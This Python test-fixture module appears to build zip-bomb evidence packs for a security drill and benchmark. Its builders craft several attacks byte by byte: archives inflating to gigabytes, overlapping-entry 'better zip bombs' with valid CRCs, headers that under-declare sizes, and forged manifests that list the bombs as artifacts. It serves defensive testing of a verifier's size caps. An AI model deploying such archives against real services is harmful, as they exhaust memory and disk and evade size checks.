"""Zip bombs made into evidence packs, byte by byte, for the drill of issue 19's finding 7
(tests/drills/test_insider_pack_reading.py) and bench/pack_bombs.py. Each builder takes a genuine
pack and writes a bomb of at most a few MB, returning its path and the member a verifier must name.

* ``bomb_1_2mb``: the genuine pack plus one member of 1.2 MB inflating to 1.2 GB (finding 7);
* ``bomb_4_3mb``: plus four members of 1.1 MB, 4.3 GB in all (finding 7's MemoryError);
* ``hidden_artifact``: the 1.2 GB bomb as an artifact the manifest lists (files and artifacts);
* ``overlapping``: twelve entries the manifest lists, sharing one compressed stream of 128 MiB (the
  "better zip bomb": each entry's data quotes the next entry's local header and goes on into the
  shared kernel), CRCs right, 1.5 GB in all;
* ``lying_header``: an artifact the manifest lists, whose central directory declares 4 KiB while its
  1.2 MB of deflate inflate to 1.2 GB;
* ``prior_manifest_bomb``: an earlier pack (for ``--prior``) whose manifest.json is the 1.2 GB bomb;
* ``bomb_300mib``: one member inflating to 300 MiB, declared so: past a verifier's cap on a member,
  within the console's 500 MiB on an upload.
"""

from __future__ import annotations

import json
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

MiB = 1024 * 1024
ZEROS = bytes(MiB)


@dataclass(frozen=True)
class _Entry:
    """A zip member as the central directory declares it, its data already at ``offset``."""

    name: str
    offset: int
    method: int
    crc: int
    compressed: int
    declared: int


def _local_header(name: str, method: int, crc: int, compressed: int, declared: int) -> bytes:
    encoded = name.encode()
    return (
        struct.pack(
            "<IHHHHHIIIHH", 0x04034B50, 20, 0, method, 0, 0x21, crc, compressed, declared, len(encoded), 0
        )
        + encoded
    )


def _finish_zip(path: Path, body: bytes, entries: list[_Entry]) -> Path:
    """``body`` (the local headers and data) followed by a central directory of ``entries``."""
    directory = bytearray()
    for entry in entries:
        encoded = entry.name.encode()
        directory += struct.pack(
            "<IHHHHHHIIIHHHHHII",
            0x02014B50,
            20,
            20,
            0,
            entry.method,
            0,
            0x21,
            entry.crc,
            entry.compressed,
            entry.declared,
            len(encoded),
            0,
            0,
            0,
            0,
            0,
            entry.offset,
        )
        directory += encoded
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(directory), len(body), 0)
    path.write_bytes(body + directory + end)
    return path


class _Zip:
    """A zip written member by member, each with the sizes and CRC the test chooses."""

    def __init__(self) -> None:
        self.body = bytearray()
        self.entries: list[_Entry] = []

    def deflated(self, name: str, data: bytes) -> None:
        compressor = zlib.compressobj(6, zlib.DEFLATED, -15)
        self.raw(
            name,
            zipfile.ZIP_DEFLATED,
            compressor.compress(data) + compressor.flush(),
            zlib.crc32(data),
            len(data),
        )

    def raw(self, name: str, method: int, data: bytes, crc: int, declared: int) -> None:
        self.entries.append(_Entry(name, len(self.body), method, crc, len(data), declared))
        self.body += _local_header(name, method, crc, len(data), declared) + data

    def write(self, path: Path) -> Path:
        return _finish_zip(path, bytes(self.body), self.entries)


def _deflated_zeros(mib: int, final: bool = True) -> bytes:
    """Raw deflate of ``mib`` MiB of zeros, about 1 KB per MiB: one MiB compressed once and flushed
    to a byte boundary with no back-reference across it, repeated."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    one = compressor.compress(ZEROS) + compressor.flush(zlib.Z_FULL_FLUSH)
    return one * mib + (b"\x03\x00" if final else b"")  # 03 00: an empty final block


def _zeros_crc(mib: int, crc: int = 0) -> int:
    for _ in range(mib):
        crc = zlib.crc32(ZEROS, crc)
    return crc


def _genuine_files(pack: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(pack) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _with_listed_artifact(files: dict[str, bytes], name: str, digest: str, size: int) -> dict[str, bytes]:
    """The genuine pack's files with the manifest listing ``name`` as an artifact (in ``files`` and
    ``artifacts``), as a forger who rewrites the manifest would."""
    manifest = json.loads(files["manifest.json"])
    manifest["files"][name] = digest
    manifest["artifacts"].append({"sha256": digest, "file": name, "size": size, "names": [], "named_by": []})
    return {**files, "manifest.json": json.dumps(manifest).encode()}


def bomb_1_2mb(genuine: Path, out: Path) -> tuple[Path, str]:
    archive = _Zip()
    for name, data in _genuine_files(genuine).items():
        archive.deflated(name, data)
    archive.raw("attachment.bin", zipfile.ZIP_DEFLATED, _deflated_zeros(1200), 0, 1200 * MiB)
    return archive.write(out), "attachment.bin"


def bomb_4_3mb(genuine: Path, out: Path) -> tuple[Path, str]:
    archive = _Zip()
    for name, data in _genuine_files(genuine).items():
        archive.deflated(name, data)
    kernel, crc = _deflated_zeros(1050), _zeros_crc(1050)  # CRCs right: each part reads whole
    for part in range(4):
        archive.raw(f"part{part}.bin", zipfile.ZIP_DEFLATED, kernel, crc, 1050 * MiB)
    return archive.write(out), "part0.bin"


def hidden_artifact(genuine: Path, out: Path) -> tuple[Path, str]:
    name = f"artifacts/{'b' * 64}"
    archive = _Zip()
    for member, data in _with_listed_artifact(_genuine_files(genuine), name, "b" * 64, 1200 * MiB).items():
        archive.deflated(member, data)
    archive.raw(name, zipfile.ZIP_DEFLATED, _deflated_zeros(1200), 0, 1200 * MiB)
    return archive.write(out), name


def lying_header(genuine: Path, out: Path) -> tuple[Path, str]:
    name = f"artifacts/{'c' * 64}"
    archive = _Zip()
    for member, data in _with_listed_artifact(_genuine_files(genuine), name, "c" * 64, 4096).items():
        archive.deflated(member, data)
    archive.raw(name, zipfile.ZIP_DEFLATED, _deflated_zeros(1200), 0, 4096)  # declares 4 KiB
    return archive.write(out), name


def overlapping(genuine: Path, out: Path) -> tuple[Path, str]:
    """Twelve entries listed in the manifest whose compressed data overlap: entry i's data is a stored
    deflate block quoting entry i+1's local header, then the same from there on, then one kernel of
    128 MiB of zeros. Every entry inflates the kernel again; the CRCs are right, so a reader without
    bounds keeps them all (1.5 GB)."""
    count, kernel_mib = 12, 128
    names = [f"artifacts/{index:064x}" for index in range(count)]
    files = _genuine_files(genuine)
    for name in names:
        files = _with_listed_artifact(files, name, "0" * 64, kernel_mib * MiB)
    archive = _Zip()
    for member, data in files.items():
        archive.deflated(member, data)
    kernel = _deflated_zeros(kernel_mib)
    # From the last entry back: its local header (CRC and sizes there are not read by zipfile; the
    # central directory's are), and what each entry before it inflates to.
    headers = [_local_header(name, zipfile.ZIP_DEFLATED, 0, 0, 0) for name in names]
    quotes = [struct.pack("<BHH", 0, len(h), len(h) ^ 0xFFFF) for h in headers]  # non-final, stored
    start = len(archive.body)
    # Each entry i (but the last) is: header_i, then a quote of header_{i+1}; the last: header, kernel.
    layout = bytearray()
    offsets = []
    for index, header in enumerate(headers):
        offsets.append(start + len(layout))
        layout += header
        if index + 1 < count:
            layout += quotes[index + 1]
    layout += kernel
    end = start + len(layout)
    entries = []
    for index, name in enumerate(names):
        data_start = offsets[index] + len(headers[index])
        inflated = b"".join(headers[index + 1 :])
        crc = _zeros_crc(kernel_mib, zlib.crc32(inflated))
        entries.append(
            _Entry(
                name,
                offsets[index],
                zipfile.ZIP_DEFLATED,
                crc,
                end - data_start,
                len(inflated) + kernel_mib * MiB,
            )
        )
    archive.body += layout
    archive.entries += entries
    return archive.write(out), names[0]


def prior_manifest_bomb(genuine: Path, out: Path) -> tuple[Path, str]:
    """An earlier pack (for ``--prior``) whose manifest.json is the 1.2 GB bomb."""
    archive = _Zip()
    archive.raw("manifest.json", zipfile.ZIP_DEFLATED, _deflated_zeros(1200), 0, 1200 * MiB)
    return archive.write(out), "manifest.json"


def bomb_300mib(genuine: Path, out: Path) -> tuple[Path, str]:
    """The genuine pack plus one member of 300 KB inflating to 300 MiB: past the verifier's cap on a
    member, within the console's cap on an upload's total."""
    archive = _Zip()
    for name, data in _genuine_files(genuine).items():
        archive.deflated(name, data)
    archive.raw("attachment.bin", zipfile.ZIP_DEFLATED, _deflated_zeros(300), _zeros_crc(300), 300 * MiB)
    return archive.write(out), "attachment.bin"


BOMBS: dict[str, Callable[[Path, Path], tuple[Path, str]]] = {
    "bomb_1_2mb": bomb_1_2mb,
    "prior_manifest_bomb": prior_manifest_bomb,
    "bomb_4_3mb": bomb_4_3mb,
    "hidden_artifact": hidden_artifact,
    "overlapping": overlapping,
    "lying_header": lying_header,
    "bomb_300mib": bomb_300mib,
}
